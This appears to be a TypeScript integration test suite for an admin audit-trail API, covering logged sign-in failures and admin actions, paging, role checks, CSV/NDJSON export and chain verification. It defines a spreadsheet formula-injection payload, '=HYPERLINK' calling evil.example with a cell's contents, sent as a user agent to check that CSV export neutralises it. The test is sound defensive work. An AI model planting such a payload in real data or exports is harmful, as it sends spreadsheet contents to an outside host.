import { DataSource } from 'typeorm';
import { UsersService } from '../../../src/users/users.service';
import { startTestApp, TestApp } from '../../support/app';
import { JsonClient } from '../../support/http';
import { member, type Member } from './admin-fixtures';

type Entry = {
  id: string;
  action: string;
  target: string;
  actor: { id: string; role: string | null; ip: string | null; userAgent: string | null };
  reason: string | null;
  result: string;
  resultCode: string | null;
  requestId: string | null;
  hash: string | null;
};
type Page = { entries: Entry[]; nextCursor: string | null; error?: { code: string } };

/** GET /admin/audit, /audit/export and /audit/verify on the run's database, over real HTTP with real tokens. */
describe('audit trail API (issue 15)', () => {
  let t: TestApp;
  let api: JsonClient;
  let db: DataSource;
  let admin: Member;
  let auditor: Member;
  let plain: Member;

  beforeAll(async () => {
    t = await startTestApp({ RATE_LIMIT_AUTH_PER_MINUTE: '100000' });
    api = new JsonClient(t.url);
    db = t.app.get(DataSource);
    [admin, auditor, plain] = [await member(t, 'admin'), await member(t, 'auditor'), await member(t, 'user')];
  });
  afterAll(async () => {
    await t?.close();
  });

  const list = (query: string, token = admin.token) => api.get<Page>(`/api/v1/admin/audit?${query}`, token);
  const exportText = async (query: string, token = admin.token) => {
    const res = await fetch(`${t.url}/api/v1/admin/audit/export?${query}`, { headers: { authorization: `Bearer ${token}` } });
    return { status: res.status, type: res.headers.get('content-type'), requestId: res.headers.get('x-request-id'), text: await res.text() };
  };
  const evilAgent = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
  const failLogin = (email: string) =>
    fetch(`${t.url}/api/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', 'user-agent': evilAgent }, body: JSON.stringify({ email, password: 'not the password at all' }) });

  it('a refused sign-in is recorded as refused with its code, the client address, user agent and request id', async () => {
    const res = await failLogin(plain.email);
    expect(res.status).toBe(401);
    const requestId = res.headers.get('x-request-id')!;
    let page: Page | undefined;
    for (let i = 0; i < 50 && !page?.entries.length; i++) page = (await list(`target=${plain.id}&action=login.failed&requestId=${encodeURIComponent(requestId)}`)).body;
    expect(page!.entries).toEqual([
      expect.objectContaining({ action: 'login.failed', target: plain.id, result: 'refused', resultCode: 'AUTH_FAILED', requestId, actor: { id: 'provider:local', role: null, ip: '127.0.0.1', userAgent: evilAgent } }),
    ]);
  });

  it("an administrator's action carries the admin's id and role, the reason and the request id", async () => {
    const target = await member(t, 'user');
    const res = await api.post(`/api/v1/admin/users/${target.id}/suspend`, { reason: 'audit test' }, admin.token);
    expect(res.status).toBe(200);
    const requestId = res.headers.get('x-request-id')!;
    const { body } = await list(`target=${target.id}&requestId=${encodeURIComponent(requestId)}`);
    expect(body.entries.length).toBeGreaterThan(0);
    for (const e of body.entries) expect(e).toMatchObject({ actor: { id: `admin:${admin.id}`, role: 'admin', ip: '127.0.0.1' }, reason: 'audit test', result: 'success', requestId });
  });

  it('filters combine and pages follow the cursor without repeats; auditors may read, users may not', async () => {
    const users = t.app.get(UsersService);
    for (const i of [1, 2, 3, 4, 5]) await users.recordEvent({ userId: plain.id, actor: 'system', type: 'profile.synced', detail: { i } });
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res: { status: number; body: Page } = await list(`target=${plain.id}&action=profile.*&actor=system&limit=2${cursor ? `&cursor=${cursor}` : ''}`, auditor.token);
      expect(res.status).toBe(200);
      seen.push(...res.body.entries.map((e) => e.id));
      cursor = res.body.nextCursor;
    } while (cursor);
    expect(seen).toHaveLength(5);
    expect(new Set(seen).size).toBe(5);
    expect(seen.map(Number)).toEqual([...seen.map(Number)].sort((a, b) => b - a));

    expect((await list('', plain.token)).body.error?.code).toBe('FORBIDDEN');
    expect((await list('cursor=bm90LWEtY3Vyc29y')).body.error?.code).toBe('INVALID_INPUT');
    expect((await list('result=maybe')).body.error?.code).toBe('VALIDATION_FAILED');
    // The auditor's reads are in the trail, about the auditor.
    expect((await list(`target=${auditor.id}&action=audit.read`)).body.entries[0]).toMatchObject({ actor: { id: `user:${auditor.id}`, role: 'auditor' } });
  });

  it('CSV export neutralises =HYPERLINK(…) and escapes line breaks: one record per line', async () => {
    await failLogin(plain.email);
    await t.app.get(UsersService).recordEvent({ userId: plain.id, actor: 'system', type: 'profile.synced', reason: 'line one\r\nline two\n=1+1' });
    const csv = await exportText(`format=csv&target=${plain.id}`);
    expect(csv.status).toBe(200);
    expect(csv.type).toMatch(/^text\/csv/);
    const lines = csv.text.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('id,seq,at,actor,actor_role,ip,user_agent,action,target,from_status,to_status,reason,result,result_code,request_id,detail,hash');
    const agents = lines.filter((l) => l.includes('HYPERLINK'));
    expect(agents.length).toBeGreaterThan(0);
    for (const l of agents) expect(l).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
    expect(csv.text).toContain('line one\\r\\nline two\\n=1+1');
    // Every physical line is a record with the header's number of columns (no value broke out of its cell).
    expect(csv.text.split('\n').filter(Boolean).length).toBe(lines.length);
  });

  it('NDJSON export streams every matching row, and the export itself is audited with its request id', async () => {
    const nd = await exportText(`format=ndjson&target=${plain.id}&action=profile.synced`);
    expect(nd.status).toBe(200);
    expect(nd.type).toMatch(/^application\/x-ndjson/);
    const rows = nd.text.trim().split('\n').map((l) => JSON.parse(l) as Entry);
    expect(rows.length).toBeGreaterThanOrEqual(6);
    expect(rows.every((r) => r.action === 'profile.synced' && r.target === plain.id)).toBe(true);
    const audited = (await db.query(`SELECT actor, actor_role, request_id, detail FROM auth.user_events WHERE user_id = $1 AND type = 'audit.exported' AND request_id = $2`, [
      admin.id,
      nd.requestId,
    ])) as Array<{ actor: string; actor_role: string; detail: { format: string; filters: Record<string, string> } }>;
    expect(audited).toEqual([expect.objectContaining({ actor: `admin:${admin.id}`, actor_role: 'admin', detail: { format: 'ndjson', filters: { target: plain.id, action: 'profile.synced' } } })]);
  });

  it('verify answers ok over the run database and names the head', async () => {
    const res = await api.get<{ ok: boolean; checked: number; head: { seq: string; hash: string } }>('/api/v1/admin/audit/verify', auditor.token);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ ok: true, head: { hash: expect.stringMatching(/^[0-9a-f]{64}$/) } });
    expect(res.body.checked).toBeGreaterThan(0);
  });
});
